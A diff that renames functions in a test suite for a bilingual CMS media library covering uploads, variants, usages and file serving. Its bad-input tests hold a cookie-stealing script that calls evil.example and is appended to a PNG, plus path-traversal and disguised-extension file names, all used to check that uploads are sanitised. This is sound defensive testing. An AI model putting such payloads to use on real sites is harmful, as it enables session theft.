@@ -6,8 +6,8 @@ import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { insertUserRow } from '@/db/auth/users-core';
 import {
   deleteMediaForever,
-  getMediaItem,
-  listMediaItems,
+  mediaItem,
+  mediaList,
   restoreMedia,
   saveMediaTexts,
   sweepMediaFiles,
@@ -15,8 +15,8 @@ import {
   uploadMedia,
 } from '@/db/media/library';
 import { publicDocument, publicImage, servedFile } from '@/db/media/public';
-import { IMMUTABLE, serveMedia } from '@/db/media/serve';
-import { checkHeroImage, imagesWithoutAlt, setUsages, usagesFromHtml, usagesOf } from '@/db/media/usages';
+import { IMMUTABLE, mediaFileResponse } from '@/db/media/serve';
+import { heroImageStatus, imagesWithoutAlt, setUsages, usagesFromHtml, usagesOf } from '@/db/media/usages';
 import { auditEvents, media, mediaUsages, newsItems, newsTranslations, pages, pageTranslations } from '@/db/schema';
 import { parseVariants } from '@/lib/media/files';
 import { INCOMING_DIR, uploadsDir } from '@/lib/media/storage';
@@ -94,7 +94,7 @@ describe('a photo from a phone', () => {
     expect(original.includes(CAMERA_SERIAL)).toBe(true);
 
     const id = await uploaded(original, 'IMG_0042.jpg');
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     // Orientation 6: 2000 × 1500 as stored in the file is 1500 × 2000 upright.
     expect(item).toMatchObject({ kind: 'image', mime: 'image/jpeg', width: 1500, height: 2000, size: original.length, fileName: 'IMG_0042.jpg' });
     expect(item.variants.map((v) => [v.width, v.height, Object.keys(v.files).sort()])).toEqual([
@@ -128,26 +128,26 @@ describe('a photo from a phone', () => {
 
   it('is auto-rotated: orientation 6 swaps width and height', async () => {
     const id = await uploaded(await phonePhoto(800, 400));
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     expect([item.width, item.height]).toEqual([400, 800]);
     expect(item.variants.map((v) => [v.width, v.height])).toEqual([[320, 640], [400, 800]]);
   });
 
   it('is never upscaled', async () => {
     const id = await uploaded(await (await picture(500, 300)).png().toBuffer(), 'small.png');
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     expect(item.mime).toBe('image/png');
     expect(item.variants.map((v) => [v.width, v.height, Object.keys(v.files).sort()])).toEqual([
       [320, 192, ['png', 'webp']],
       [500, 300, ['png', 'webp']],
     ]);
-    const tiny = getMediaItem(t.db, await uploaded(await (await picture(90, 60)).webp().toBuffer(), 'tiny.webp'))!;
+    const tiny = mediaItem(t.db, await uploaded(await (await picture(90, 60)).webp().toBuffer(), 'tiny.webp'))!;
     expect(tiny.variants).toEqual([{ width: 90, height: 60, files: { webp: expect.stringMatching(/-90\.webp$/) } }]);
   });
 
   it('in AVIF keeps AVIF and WebP', async () => {
     const id = await uploaded(await (await picture(1200, 800)).avif({ effort: 0 }).toBuffer(), 'photo.avif');
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     expect(item.mime).toBe('image/avif');
     expect(item.variants.map((v) => [v.width, Object.keys(v.files).sort()])).toEqual([
       [320, ['avif', 'webp']],
@@ -175,7 +175,7 @@ describe('a photo from a phone', () => {
     saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts: { en: { alt: 'Judges in Durrës' }, sq: { alt: 'Gjyqtarë në Durrës' } } });
     expect(trashMedia(t.db, actor, id)).toEqual({ ok: true });
     expect(await upload(photo)).toEqual({ ok: true, id, kind: 'image', status: 'restored' });
-    expect(getMediaItem(t.db, id)).toMatchObject({ deletedAt: null, texts: { en: { alt: 'Judges in Durrës' } } });
+    expect(mediaItem(t.db, id)).toMatchObject({ deletedAt: null, texts: { en: { alt: 'Judges in Durrës' } } });
   });
 });
 
@@ -195,7 +195,7 @@ describe('bad input', () => {
     const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
     const png = Buffer.concat([await (await picture(400, 300)).png().toBuffer(), Buffer.from(script)]);
     const id = await uploaded(png, 'chart.png');
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     const names = item.variants.flatMap((v) => Object.values(v.files));
     expect(names.length).toBeGreaterThan(0);
     for (const name of names) expect(readStored(name).includes('<script')).toBe(false);
@@ -251,7 +251,7 @@ describe('bad input', () => {
 
   it('a file name with ../ and Unicode is shown cleaned and never used on disk', async () => {
     const id = await uploaded(cleanPdf(), '../../../etc/Raport vjetor – Shqipëri\u202e.pdf');
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     expect(item.fileName).toBe('Raport vjetor – Shqipëri.pdf');
     expect(storedFiles()).toEqual([`${item.hash}.pdf`]);
     expect(fs.readdirSync(t.dataDir).sort()).toEqual(['iom-albania.sqlite', 'iom-albania.sqlite-shm', 'iom-albania.sqlite-wal', INCOMING_DIR, 'uploads'].sort());
@@ -262,7 +262,7 @@ describe('bad input', () => {
 
   it('a PDF named like an executable downloads with .pdf', async () => {
     const id = await uploaded(cleanPdf(), 'invoice.exe');
-    expect(getMediaItem(t.db, id)!.fileName).toBe('invoice.exe.pdf');
+    expect(mediaItem(t.db, id)!.fileName).toBe('invoice.exe.pdf');
   });
 });
 
@@ -300,7 +300,7 @@ describe('an upload that fails half-way', () => {
     expect(sweepMediaFiles(t.db, t.dataDir).sort()).toEqual([path.join(INCOMING_DIR, 'x.part'), path.join('uploads', `${'c'.repeat(64)}-320.webp`)].sort());
     expect(storedFiles()).toEqual(kept);
     expect(incomingFiles()).toEqual([]);
-    expect(getMediaItem(t.db, id)).not.toBeNull();
+    expect(mediaItem(t.db, id)).not.toBeNull();
   });
 });
 
@@ -310,9 +310,9 @@ describe('a file in use', () => {
     const inBody = await uploaded(await (await picture(300, 200)).png().toBuffer(), 'chart.png');
     const report = await uploaded(cleanPdf(), 'report.pdf');
     const articleId = addNews({ en: 'Training for judges', sq: 'Trajnim për gjyqtarë' }, hero);
-    const heroHash = getMediaItem(t.db, hero)!.hash;
-    const chart = getMediaItem(t.db, inBody)!;
-    const reportHash = getMediaItem(t.db, report)!.hash;
+    const heroHash = mediaItem(t.db, hero)!.hash;
+    const chart = mediaItem(t.db, inBody)!;
+    const reportHash = mediaItem(t.db, report)!.hash;
     const html = `<p>Text</p><img src="/media/${chart.variants[0]!.files.webp}" alt="Chart"><p><a href="/media/${reportHash}.pdf">Report</a> and again <img src="/media/${chart.variants[0]!.files.png}" alt="Chart"></p>`;
     const pageId = t.db.insert(pages).values({}).returning({ id: pages.id }).get().id;
     t.db.insert(pageTranslations).values({ pageId, locale: 'sq', path: 'te-dhena', title: 'Të dhëna dhe burime' }).run();
@@ -333,7 +333,7 @@ describe('a file in use', () => {
       usages: [{ entityType: 'page', entityId: pageId, locale: 'sq', role: 'body', titles: { sq: 'Të dhëna dhe burime' }, trashed: false }],
     });
     expect(trashMedia(t.db, actor, report)).toMatchObject({ ok: false, error: 'inUse' });
-    expect([checkHeroImage(t.db, hero), checkHeroImage(t.db, report), checkHeroImage(t.db, 9999)]).toEqual(['ok', 'notImage', 'notFound']);
+    expect([heroImageStatus(t.db, hero), heroImageStatus(t.db, report), heroImageStatus(t.db, 9999)]).toEqual(['ok', 'notImage', 'notFound']);
     // The database refuses too, whatever the code does.
     expect(() => t.db.delete(media).where(eq(media.id, hero)).run()).toThrow(/FOREIGN KEY/);
     expect(heroHash).toHaveLength(64);
@@ -370,7 +370,7 @@ describe('a file in use', () => {
 
   it('once unused, goes to the trash (no longer served), comes back, and is deleted for good with its files', async () => {
     const id = await uploaded(await phonePhoto(700, 500));
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     const name = item.variants[0]!.files.webp!;
     expect(servedFile(t.db, name)).not.toBeNull();
     expect(trashMedia(t.db, actor, id)).toEqual({ ok: true });
@@ -404,7 +404,7 @@ describe('texts per language', () => {
       error: 'invalid',
       fieldErrors: { 'sq.alt': 'tooLong' },
     });
-    expect(getMediaItem(t.db, id)!.texts.en).toEqual({ title: null, alt: 'Judges at a training in Durrës', caption: 'Training in Durrës.', credit: '© IOM 2019', decorative: false });
+    expect(mediaItem(t.db, id)!.texts.en).toEqual({ title: null, alt: 'Judges at a training in Durrës', caption: 'Training in Durrës.', credit: '© IOM 2019', decorative: false });
     // Nothing changed: no new version.
     expect(saveMediaTexts(t.db, actor, { id, baseVersion: 2, texts })).toEqual({ ok: true, version: 2 });
     expect(t.db.select().from(auditEvents).where(eq(auditEvents.action, 'media.update')).all()).toHaveLength(1);
@@ -416,7 +416,7 @@ describe('texts per language', () => {
     expect(imagesWithoutAlt(t.db, [id], 'en')).toEqual([id]);
     saveMediaTexts(t.db, actor, { id, baseVersion: 1, texts: { en: { alt: 'Judges in Durrës', caption: 'A caption', credit: 'IOM' }, sq: {} } });
     const en = publicImage(t.db, id, 'en')!;
-    const hash = getMediaItem(t.db, id)!.hash;
+    const hash = mediaItem(t.db, id)!.hash;
     expect(en).toEqual({
       id,
       src: `/media/${hash}-1600.webp`,
@@ -432,7 +432,7 @@ describe('texts per language', () => {
     expect(imagesWithoutAlt(t.db, [id], 'sq')).toEqual([id]);
     saveMediaTexts(t.db, actor, { id, baseVersion: 2, texts: { en: { alt: 'Judges in Durrës' }, sq: { alt: 'ignored', decorative: true } } });
     expect(publicImage(t.db, id, 'sq')).toMatchObject({ alt: '', width: 1600 });
-    expect(getMediaItem(t.db, id)!.texts.sq).toMatchObject({ alt: null, decorative: true });
+    expect(mediaItem(t.db, id)!.texts.sq).toMatchObject({ alt: null, decorative: true });
     expect(imagesWithoutAlt(t.db, [id, 12345], 'sq')).toEqual([12345]);
     trashMedia(t.db, actor, id);
     expect(publicImage(t.db, id, 'en')).toBeNull();
@@ -442,8 +442,8 @@ describe('texts per language', () => {
     const id = await uploaded(cleanPdf(), 'Raport 2024.pdf');
     expect(publicDocument(t.db, id, 'sq')).toMatchObject({ title: 'Raport 2024.pdf', language: null, size: cleanPdf().length });
     saveMediaTexts(t.db, actor, { id, baseVersion: 1, language: 'sq', texts: { en: { title: 'Annual report 2024' }, sq: { title: 'Raporti vjetor 2024', alt: 'ignored for documents' } } });
-    expect(publicDocument(t.db, id, 'sq')).toMatchObject({ title: 'Raporti vjetor 2024', language: 'sq', url: `/media/${getMediaItem(t.db, id)!.hash}.pdf` });
-    expect(getMediaItem(t.db, id)!.texts.sq!.alt).toBeNull();
+    expect(publicDocument(t.db, id, 'sq')).toMatchObject({ title: 'Raporti vjetor 2024', language: 'sq', url: `/media/${mediaItem(t.db, id)!.hash}.pdf` });
+    expect(mediaItem(t.db, id)!.texts.sq!.alt).toBeNull();
     expect(publicImage(t.db, id, 'sq')).toBeNull();
   });
 });
@@ -453,7 +453,7 @@ describe('the library', () => {
     const photo = await uploaded(await phonePhoto(700, 500), 'Gjykata-Durrës.jpg');
     const report = await uploaded(cleanPdf(), 'Raport.pdf');
     saveMediaTexts(t.db, actor, { id: photo, baseVersion: 1, texts: { en: { alt: 'Judges and prosecutors' }, sq: { alt: 'Gjyqtarë dhe prokurorë' } } });
-    const ids = (f: Parameters<typeof listMediaItems>[1]) => listMediaItems(t.db, f).items.map((i) => i.id);
+    const ids = (f: Parameters<typeof mediaList>[1]) => mediaList(t.db, f).items.map((i) => i.id);
     expect(ids({})).toEqual([report, photo]);
     expect(ids({ q: 'prokuror' })).toEqual([photo]);
     expect(ids({ q: 'gjykata' })).toEqual([photo]);
@@ -466,17 +466,17 @@ describe('the library', () => {
     trashMedia(t.db, actor, report);
     expect(ids({})).toEqual([photo]);
     expect(ids({ trash: true })).toEqual([report]);
-    expect(listMediaItems(t.db, {}).items[0]).toMatchObject({ createdByName: 'Erion Editor', usages: [] });
+    expect(mediaList(t.db, {}).items[0]).toMatchObject({ createdByName: 'Erion Editor', usages: [] });
   });
 });
 
 describe('serving', () => {
   const get = (name: string | string[], init: RequestInit = {}) =>
-    serveMedia(t.db, t.dataDir, Array.isArray(name) ? name : [name], new Request(`http://localhost/media/${Array.isArray(name) ? name.join('/') : name}`, init));
+    mediaFileResponse(t.db, t.dataDir, Array.isArray(name) ? name : [name], new Request(`http://localhost/media/${Array.isArray(name) ? name.join('/') : name}`, init));
 
   it('answers an image variant with its type, nosniff and a year of immutable caching', async () => {
     const id = await uploaded(await phonePhoto(700, 500));
-    const variant = getMediaItem(t.db, id)!.variants[0]!;
+    const variant = mediaItem(t.db, id)!.variants[0]!;
     for (const [format, type] of [['webp', 'image/webp'], ['jpeg', 'image/jpeg']] as const) {
       const name = variant.files[format]!;
       const res = await get(name);
@@ -495,7 +495,7 @@ describe('serving', () => {
 
   it('answers a PDF inline under its real name', async () => {
     const id = await uploaded(cleanPdf(), 'Raport vjetor – Shqipëri.pdf');
-    const res = await get(`${getMediaItem(t.db, id)!.hash}.pdf`);
+    const res = await get(`${mediaItem(t.db, id)!.hash}.pdf`);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('application/pdf');
     expect(res.headers.get('content-disposition')).toBe(`inline; filename="Raport vjetor _ Shqiperi.pdf"; filename*=UTF-8''Raport%20vjetor%20%E2%80%93%20Shqip%C3%ABri.pdf`);
@@ -504,7 +504,7 @@ describe('serving', () => {
 
   it('answers 404 to anything else: unknown names, other widths, traversal, trashed files', async () => {
     const id = await uploaded(await phonePhoto(700, 500));
-    const item = getMediaItem(t.db, id)!;
+    const item = mediaItem(t.db, id)!;
     fs.writeFileSync(path.join(t.dataDir, 'secret.txt'), 'secret');
     const attempts: (string | string[])[] = [
       `${item.hash}-333.webp`,
@@ -534,7 +534,7 @@ describe('serving', () => {
 
   it('answers 404, not a crash, when a listed file is missing on disk', async () => {
     const id = await uploaded(await phonePhoto(700, 500));
-    const name = getMediaItem(t.db, id)!.variants[0]!.files.webp!;
+    const name = mediaItem(t.db, id)!.variants[0]!.files.webp!;
     fs.rmSync(path.join(uploadsDir(t.dataDir), name));
     expect((await get(name)).status).toBe(404);
   });
